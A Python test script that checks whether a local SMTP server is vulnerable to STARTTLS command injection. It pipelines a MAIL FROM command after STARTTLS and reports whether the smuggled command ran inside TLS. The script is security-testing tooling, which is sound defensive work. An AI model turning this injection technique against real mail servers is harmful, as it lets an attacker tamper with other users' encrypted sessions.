#!/usr/bin/env python3
# ISC license.
#
# uc-inject.py PORT CAFILE: the STARTTLS command injection attack against
# an SMTP server at 127.0.0.1:PORT. Reads the greeting, sends EHLO, then
# "STARTTLS\r\nMAIL FROM:<x@y>\r\n" in ONE write, reads the reply to
# STARTTLS; if it is 220, tries the TLS handshake (verifying CAFILE,
# name localhost). If the handshake works, sends EHLO and then
# "RCPT TO:<r@example.net>" with no MAIL FROM of its own: a 250 there
# means the injected MAIL was executed inside TLS. Prints what happened:
#   plain: LINE          each plaintext reply line
#   tls: LINE            each reply line inside TLS (an unsolicited reply
#                        before the EHLO reply is shown, then skipped)
#   handshake: ok|failed: ERROR
#   verdict: safe|INJECTED|refused
# Exit 0 unless something unexpected (timeout, malformed reply): 2.
import socket, ssl, sys

port, cafile = int(sys.argv[1]), sys.argv[2]
s = socket.create_connection(("127.0.0.1", port), timeout=10)
f = s.makefile("rb")

def reply(rd, tag):
    while True:
        l = rd.readline()
        if not l:
            print("%s: EOF" % tag)
            return None
        l = l.decode("latin-1").rstrip("\r\n")
        print("%s: %s" % (tag, l))
        if len(l) < 4 or l[3] != "-":
            return l

try:
    if not (reply(f, "plain") or "").startswith("220"):
        sys.exit(2)
    s.sendall(b"EHLO inject.test\r\n")
    reply(f, "plain")
    s.sendall(b"STARTTLS\r\nMAIL FROM:<x@y>\r\n")
    l = reply(f, "plain")
    if not l or not l.startswith("220"):
        print("verdict: refused")
        sys.exit(0)
    # the buffered reader must not have swallowed anything more
    ctx = ssl.create_default_context(cafile=cafile)
    ctx.options |= getattr(ssl, "OP_IGNORE_UNEXPECTED_EOF", 0)
    try:
        c = ctx.wrap_socket(s, server_hostname="localhost")
    except (ssl.SSLError, OSError) as e:
        print("handshake: failed: %s" % e)
        print("verdict: safe")
        sys.exit(0)
    print("handshake: ok")
    t = c.makefile("rb")
    c.sendall(b"EHLO inject.test\r\n")
    # mailfront first answers the discarded pipelined command with a 500
    while True:
        l = reply(t, "tls")
        if l is None:
            sys.exit(2)
        if l.startswith("250"):
            break
    c.sendall(b"RCPT TO:<r@example.net>\r\n")
    l = reply(t, "tls")
    c.sendall(b"QUIT\r\n")
    reply(t, "tls")
    print("verdict: %s" % ("INJECTED" if l and l.startswith("250") else "safe"))
except (OSError, ssl.SSLError) as e:
    print("uc-inject: %s" % e, file=sys.stderr)
    sys.exit(2)
